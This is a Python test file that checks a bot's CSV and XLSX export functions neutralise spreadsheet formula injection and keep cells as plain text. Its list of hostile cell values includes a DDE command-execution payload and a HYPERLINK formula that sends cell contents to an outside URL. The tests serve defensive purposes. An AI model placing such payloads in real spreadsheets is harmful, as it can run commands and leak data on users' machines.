"""The cells of an exported sheet are text only: nothing runs, nothing shifts, nothing is lost."""

import csv
import io
import re
import zipfile
from collections.abc import Sequence

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.xml.functions import fromstring

from bot.desk.exports.spreadsheets import (
    CELL_MAX,
    TRUNCATION_SIGN,
    csv_of,
    escape_formula,
    replace_unprintable,
    unescape_formula,
    xlsx_of,
)
from tests.harness.clock import START
from tests.harness.thorough import examples

HOSTILE = [
    *("=1+1", "=cmd|' /C calc'!A0", "+44 7700 900123", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"),
    *(
        "\n=1",
        "\0=1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20A1",
        "\u22121",
        "\ufe661",
        "\ufe62",
    ),
    *(
        "'=1",
        "''=1",
        "'",
        "''",
        "'plain",
        "' =1",
        " =1",
        "\u00a0=1",
        "\ufeff=1",
        "\u200b@x",
        "\x1b=1",
    ),
    '=HYPERLINK("http://example.com?x="&A1,"Look")',
    *(
        '"',
        '""',
        '",=1,"',
        ",",
        ";",
        "\t",
        "\r",
        "\n",
        "\r\n",
        'a"b,c\r\nd',
        "a\r=1",
        "a\n=1",
        "x;=1",
    ),
    *(
        "http://example.com",
        "mailto:mira@example.com",
        "internal:A1",
        "external:c:\\x",
        "0012",
        "1e9",
    ),
    *(
        "TRUE",
        "#REF!",
        "{=1}",
        "_x0041_",
        "_x003D_1",
        "_x005F_",
        "<b>&amp;</b>",
        "]]>",
        "\0",
        "a\0b",
    ),
    *(
        "\x01\x08\x0b\x1f",
        "\ud800",
        "x\udfffy",
        "\ufffe\uffff",
        "\x7f\x85\x9f",
        "\u202e=1",
        "\u2066@",
    ),
    *(
        "\u0645\u0631\u062d\u0628\u0627",
        "\u5b57",
        "\U0001f600=1",
        " lead",
        "trail ",
        "",
        " ",
        "sep=;",
    ),
]
_PIECES = st.sampled_from([*HOSTILE, *"=+-@'\t\r\n\0,;\"_x "])
CELLS = st.one_of(
    st.lists(_PIECES, max_size=5).map("".join),
    st.text(st.characters(codec=None, exclude_categories=[]), max_size=30),
)
RUN = [*"=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20"]
WIDTH = 5
MANY = [[HOSTILE[(row + n) % len(HOSTILE)] for n in range(WIDTH)] for row in range(len(HOSTILE))]
_T, _C = (f"{{http://schemas.openxmlformats.org/spreadsheetml/2006/main}}{tag}" for tag in "tc")
_HALVES = re.compile("[\ud800-\udfff]")


def read_csv(kept: bytes) -> list[list[str]]:
    """Return what a CSV reader finds."""
    return list(csv.reader(io.StringIO(kept.decode("utf-8-sig"), newline=""), strict=True))


def read_xlsx(kept: bytes) -> list[list[str]]:
    """Return what openpyxl finds: all of it text, no formula, no link."""
    sheet = load_workbook(io.BytesIO(kept)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink] == []
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    assert all(cell.value is None for cell in cells if cell.data_type == "n")
    texts = [as_excel(text) for text in texts_in(kept)]
    return [[texts.pop(0) for _ in row] for row in sheet.iter_rows()]


def texts_in(kept: bytes) -> list[str]:
    """Return the text of each cell, row by row; openpyxl's own reader drops some escapes."""
    with zipfile.ZipFile(io.BytesIO(kept)) as parts:
        shared = [one.text or "" for one in fromstring(parts.read("xl/sharedStrings.xml")).iter(_T)]
        sheet = fromstring(parts.read("xl/worksheets/sheet1.xml"))
    return [
        "" if one.get("t") is None else shared[int(one[0].text or "")] for one in sheet.iter(_C)
    ]


def as_excel(cell: str) -> str:
    """Return a cell with the workbook's own escapes read (ECMA-376 part 1, 22.9.2.19)."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda found: chr(int(found[1], 16)), cell)


def whole(rows: Sequence[Sequence[str]]) -> list[list[str]]:
    """Return the rows with the sign for a broken character in place of half a pair."""
    return [[_HALVES.sub("\ufffd", cell) for cell in row] for row in rows]


def same(rows: Sequence[Sequence[str]]) -> None:
    """Check that both forms give back what went in, in its place, and that nothing is run."""
    found = read_csv(csv_of(rows))
    assert [[unescape_formula(cell) for cell in row] for row in found] == whole(rows)
    assert [cell for row in found for cell in row if cell[:1] in RUN] == []
    assert read_xlsx(xlsx_of(rows, START)) == [
        [replace_unprintable(cell) for cell in row] for row in rows
    ]


def test_our_own_hostile_cells_come_back_as_they_went_in() -> None:
    same([["head"] * WIDTH, *MANY])


@settings(
    max_examples=examples(40),
    deadline=None,
    derandomize=True,
    phases=[Phase.generate],
    suppress_health_check=list(HealthCheck),
)
@given(st.lists(st.lists(CELLS, min_size=5, max_size=5), min_size=26, max_size=26))
def test_five_thousand_made_up_cells_come_back_as_they_went_in(rows: list[list[str]]) -> None:
    same([["head"] * 5, *rows])


@settings(max_examples=examples(2000), deadline=None, derandomize=True)
@given(CELLS)
def test_the_guard_can_always_be_taken_off(cell: str) -> None:
    assert unescape_formula(escape_formula(cell)) == _HALVES.sub("\ufffd", cell)


@pytest.mark.parametrize(
    "cell", ["=1", "+1", "-1", "@a", "\ta", "\ra", "\0a", "\uff1d1", "\uff0b1"]
)
def test_a_start_that_could_be_run_gets_an_apostrophe(cell: str) -> None:
    assert escape_formula(cell) == f"'{cell}"


def test_plain_words_stay_as_they_are() -> None:
    for cell in ("Amina", "ACDE-3467", "It's mine", "'quoted'", "1 + 1 = 2", "O'Brien", ""):
        assert escape_formula(cell) == cell


def test_csv_is_as_rfc_4180_says_and_excel_knows_its_letters() -> None:
    kept = csv_of([["a", "b"], ['say "hi", you', "\u017b\nx"], ["short"]])
    assert kept.startswith(b"\xef\xbb\xbf")
    assert kept[3:] == ('"a","b"\r\n"say ""hi"", you","\u017b\nx"\r\n"short",""\r\n'.encode())


def test_what_a_workbook_cannot_hold_is_seen_and_not_dropped() -> None:
    assert replace_unprintable("a\0b\x1bc\ud800") == "a\u2400b\u241bc\ufffd"


def test_a_cell_that_is_too_long_is_cut_where_everybody_sees_it() -> None:
    ((_,), (cut,)) = read_xlsx(xlsx_of([["head"], ["\U0001f600" * CELL_MAX]], START))
    assert cut.endswith(TRUNCATION_SIGN)
    assert len(cut.encode("utf-16-le")) <= 2 * CELL_MAX
    ((_,), (full,)) = read_xlsx(xlsx_of([["head"], ["a" * CELL_MAX]], START))
    assert full == "a" * CELL_MAX


def test_an_empty_list_is_a_sheet_too() -> None:
    assert read_csv(csv_of([["a"]])) == [["a"]]
    assert read_xlsx(xlsx_of([["a"]], START)) == [["a"]]
